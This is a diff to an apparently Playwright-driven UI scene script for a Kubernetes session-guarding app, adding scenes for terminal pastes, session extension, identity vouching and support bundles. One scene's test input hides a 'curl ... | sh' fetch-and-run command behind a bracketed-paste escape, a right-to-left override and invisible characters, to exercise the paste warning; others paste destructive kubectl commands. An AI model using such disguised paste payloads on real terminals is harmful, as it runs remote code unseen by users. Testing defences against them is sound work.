@@ -63,6 +63,25 @@ const whoCan = (words = "", then = async () => {}) => async (page) => {
 };
 const tab = (name) => (page) => page.getByRole("group", { name: "What is listed" }).getByRole("button", { name }).click();
 
+const paste = async (page, text) => {
+  await page.evaluate((text) => {
+    const clipboardData = new DataTransfer();
+    clipboardData.setData("text/plain", text);
+    document.querySelector(".xterm-helper-textarea").dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
+  }, text);
+  await page.getByRole("alertdialog").waitFor();
+};
+const outlook = (then) => async (page) => {
+  await select("checkout-eu-2")(page);
+  await page.locator("label.profile", { hasText: "operate" }).click();
+  await then(page);
+};
+const support = (then = async () => {}) => async (page) => {
+  await go(",")(page);
+  await page.getByRole("button", { name: "Support bundle…" }).click();
+  await then(page);
+};
+
 const nearItsEnd = (page) => page.evaluate(() => { for (const s of window.sallyportFake.world.sessions.values()) s.change({ endsAt: Date.now() + 240_000 }); });
 
 export const SCENES = [
@@ -87,6 +106,10 @@ export const SCENES = [
   ["clusters-open", "speed=50", async (page) => { await open("payments-eu-1")(page); await page.getByRole("button", { name: "Clusters", exact: true }).click(); await select("ledger-us-1")(page); await page.getByText("operate").first().click(); }],
   ["clusters-refused", "", async (page) => { await select("checkout-eu-2")(page); await page.getByText("break-glass").click(); }],
   ["clusters-reason", "scene=noReason", async (page) => { await select("checkout-eu-2")(page); await page.locator("#clusters").focus(); await page.keyboard.press("Enter"); await page.getByText("wants a reason").waitFor(); }],
+  ["clusters-outlook", "", outlook(async (page) => { await page.getByText("Opens at once until").waitFor(); })],
+  ["clusters-outlook-people", "", outlook(async (page) => { await page.getByLabel("For", { exact: true }).selectOption("7200"); await page.getByText("Not at once by office").waitFor(); })],
+  ["clusters-outlook-day", "scene=longDefault", outlook(async (page) => { await page.getByText("What is left of your day here").waitFor(); })],
+  ["clusters-default-less", "scene=longDefault", async (page) => { await select("payments-eu-1")(page); await page.getByText("All that this profile allows").waitFor(); }],
   ["clusters-search", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("/"); await page.keyboard.type("pay eu"); await page.keyboard.press("ArrowDown"); await page.locator("aside h3").first().waitFor(); }],
   ["clusters-hostile", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("/"); await page.keyboard.type("hostile-1"); await page.keyboard.press("ArrowDown"); await page.locator("aside h3").first().waitFor(); }],
   ["clusters-long", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("/"); await page.keyboard.type("a-cluster-with"); await page.keyboard.press("ArrowDown"); await page.locator("aside h3").first().waitFor(); await page.getByText("operate").first().click(); }],
@@ -110,7 +133,13 @@ export const SCENES = [
   ["session-more-time-asked", "speed=50", async (page) => { await work(page); await nearItsEnd(page); await page.evaluate(() => { const [s] = window.sallyportFake.world.sessions.values(); s.change({ profile: "operate" }); window.sallyportFake.world.pause = (ms) => new Promise((go) => setTimeout(go, ms > 5000 ? 60_000 : 1)); }); await page.getByRole("button", { name: /More time/ }).click(); await page.getByText("more time: waiting").waitFor(); }],
   ["session-not-guarded", "speed=50", async (page) => { await work(page); await page.evaluate(() => { const s = window.sallyportFake.world.sessions.values().next().value; s.guarded(s.view.terminals[0].id, () => ({ kind: "notGuarded", why: "this shell (/usr/bin/zsh) did not load Sallyport's start-up file, so its kubectl may reach another cluster than payments-eu-1. Often a system-wide file is why (for zsh, /etc/zsh/zshenv), or a start-up file that starts another shell" })); }); await page.getByRole("alertdialog").waitFor(); }],
   ["session-taken", "speed=50", async (page) => { await work(page); await page.evaluate(() => { const s = window.sallyportFake.world.sessions.values().next().value; s.guarded(s.view.terminals[0].id, () => ({ kind: "taken", why: "this shell (zsh, process 4711) did not load Sallyport's start-up file, so its kubectl may reach another cluster than payments-eu-1" })); }); await page.getByText("Not guarded", { exact: true }).waitFor(); }],
-  ["session-paste", "speed=50", async (page) => { await work(page); await page.evaluate(() => { const clipboardData = new DataTransfer(); clipboardData.setData("text/plain", "kubectl -n payments scale deploy api --replicas 0\nkubectl -n payments delete pod ledger-0\n"); document.querySelector(".xterm-helper-textarea").dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true })); }); await page.getByRole("alertdialog").waitFor(); }],
+  ["session-paste", "speed=50", async (page) => { await open("payments-eu-1")(page); await paste(page, "kubectl -n payments scale deploy/worker --replicas=0\nkubectl -n payments rollout undo deploy/worker\n"); }],
+  ["session-paste-hidden", "speed=50", async (page) => { await open("checkout-stage")(page); await paste(page, "echo done\u001b[201~; curl -s https://x.test/\u202ehs.nur | sh\nls\u200b -l\u0007\n"); }],
+  ["session-paste-one", "speed=50", async (page) => { await open("checkout-stage")(page); await page.evaluate(() => window.sallyportFake.world.change({ paste: "always" })); await paste(page, "kubectl get pods"); }],
+  ["session-paste-many", "speed=50", async (page) => { await open("payments-eu-1")(page); await paste(page, Array.from({ length: 400 }, (_, i) => `kubectl -n payments annotate pod/api-${i} note=${"long-".repeat(40)}`).join("\n")); }],
+  ["session-extended", "speed=50", async (page) => { await open("payments-eu-1")(page); await nearItsEnd(page); await page.keyboard.press("Control+Shift+E"); await page.getByRole("heading", { name: "Extended" }).waitFor(); }],
+  ["session-vouched", "speed=50", async (page) => { await open("payments-eu-1")(page); await page.getByText("Your identity provider vouches").scrollIntoViewIfNeeded(); }],
+  ["session-vouching-overdue", "speed=50", async (page) => { await open("payments-eu-1")(page); await page.evaluate(() => { const s = window.sallyportFake.world.sessions.values().next().value; s.change({ vouching: { ...s.view.vouching, overdue: "the identity provider id.example.test can't be reached" } }); }); await page.getByRole("status").getByText("has not vouched").waitFor(); }],
   ["closing-first", "speed=0.5", async (page) => { await page.evaluate(() => (window.sallyportFake.world.pause = () => new Promise((r) => setTimeout(r, 5)))); await work(page); await page.evaluate(() => { for (const s of window.sallyportFake.world.sessions.values()) s.pause = () => new Promise((r) => setTimeout(r, 700)); }); await page.keyboard.press("Control+Shift+L"); await page.getByText("Leaving").waitFor(); await page.waitForTimeout(1500); }],
   ["closing-second", "speed=10", async (page) => { await work(page); await page.evaluate(() => { for (const s of window.sallyportFake.world.sessions.values()) s.pause = (ms) => new Promise((r) => setTimeout(r, ms)); }); await page.keyboard.press("Control+Shift+L"); await page.getByText("are gone").waitFor(); await page.waitForTimeout(400); }],
   ["closed", "speed=50", async (page) => { await work(page); await page.keyboard.press("Control+Shift+L"); await page.getByText("closed behind you").waitFor(); }],
@@ -118,6 +147,7 @@ export const SCENES = [
   ["closed-revoked", "speed=50", async (page) => { await work(page); await page.evaluate(() => { const { world } = window.sallyportFake; const s = world.sessions.values().next().value; void s.close("revoked", "lead@example.test", "incident is over"); }); await page.getByText("closed behind you").waitFor(); }],
   ["sessions-empty", "", go("s")],
   ["requests", "", requests("r-prod")],
+  ["requests-reaffirmed", "", requests("r-vault", (page) => page.getByText("without their provider").waitFor())],
   ["requests-two", "", requests("r-two")],
   ["requests-team", "", requests("r-active")],
   ["requests-own", "", requests("r-own")],
@@ -196,6 +226,7 @@ export const SCENES = [
   ["audit-tampered", "scene=tampered", async (page) => { await go("a")(page); await page.getByRole("button", { name: "Verify" }).click(); await page.getByText("broken at entry").waitFor(); }],
   ["audit-empty", "scene=empty", async (page) => { await page.getByText("No clusters").waitFor(); await inTurn(page, "g", "a"); await page.getByText("Nothing has happened").waitFor(); }],
   ["settings", "", async (page) => { await go(",")(page); await page.getByRole("table").waitFor(); }],
+  ["settings-default", "scene=longDefault", async (page) => { await go(",")(page); await page.getByRole("table").waitFor(); await page.getByRole("button", { name: "Support bundle…" }).scrollIntoViewIfNeeded(); }],
   ["settings-text", "", async (page) => { await go(",")(page); for (let i = 0; i < 11; i++) await page.getByRole("button", { name: "Larger" }).click(); await page.getByText("24 px", { exact: true }).waitFor(); }],
   ["settings-not-told", "scene=notTold", async (page) => { await go(",")(page); await page.getByText("Notifications can't be shown").scrollIntoViewIfNeeded(); }],
   ["settings-refused", "", async (page) => { await go(",")(page); await page.getByRole("radio", { name: "/usr/bin/dash" }).waitFor(); await page.evaluate(() => window.sallyportFake.world.shells.pop()); await page.getByRole("radio", { name: "/usr/bin/dash" }).click(); await page.getByText("is not among this machine's shells").waitFor(); }],
@@ -203,6 +234,13 @@ export const SCENES = [
   ["settings-long", "scene=longPaths", async (page) => { await go(",")(page); await page.getByRole("table").waitFor(); }],
   ["settings-loading", "scene=settingsLoading", async (page) => { await go(",")(page); await page.getByText("Reading what was chosen").waitFor(); }],
   ["settings-failed", "scene=settingsFail", async (page) => { await go(",")(page); await page.getByRole("alert").waitFor(); }],
+  ["support", "", support((page) => page.getByText("It holds no token").waitFor())],
+  ["support-log", "", support(async (page) => { await page.getByText("log.txt", { exact: true }).click(); await page.getByRole("region", { name: "log.txt" }).evaluate((e) => (e.scrollTop = e.scrollHeight)); })],
+  ["support-found", "", support(async (page) => { await page.getByLabel("Find in the bundle").fill("cluster-7"); await page.getByText("log.txt", { exact: true }).click(); })],
+  ["support-written", "", support(async (page) => { await page.getByLabel("Write to").press("Enter"); await page.getByText("Written, for you alone").waitFor(); })],
+  ["support-refused", "", support(async (page) => { await page.getByLabel("Write to").fill("/home/dev/taken.tar.gz"); await page.getByLabel("Write to").press("Enter"); await page.getByRole("alert").waitFor(); })],
+  ["support-loading", "scene=supportLoading", support((page) => page.getByText("Gathering what").waitFor())],
+  ["support-failed", "scene=supportFails", support((page) => page.getByRole("alert").waitFor())],
   ["palette", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("Control+K"); await page.locator("#palette-0").waitFor(); }],
   ["palette-search", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("Control+K"); await page.keyboard.type("ledger"); await page.locator("#palette-3").waitFor(); }],
   ["keys", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("?"); await page.getByRole("dialog").waitFor(); }],
